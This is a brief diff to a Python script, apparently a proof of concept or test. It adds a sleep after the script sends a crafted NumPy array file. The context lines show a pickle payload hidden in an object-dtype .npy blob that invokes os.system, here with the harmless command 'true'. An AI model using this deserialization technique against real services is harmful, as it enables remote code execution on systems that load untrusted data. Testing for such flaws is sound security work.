@@ -2,6 +2,7 @@ import json
 import os
 import struct
 import sys
+import time
 
 
 def token():
@@ -28,4 +29,5 @@ def npy(descr, shape, data):
 
 def double(x):
     send(part(b'{"a": 0}') + npy("|O", "(1,)", b"cos\nsystem\n(S'true'\ntR."))
+    time.sleep(1)
     os._exit(0)
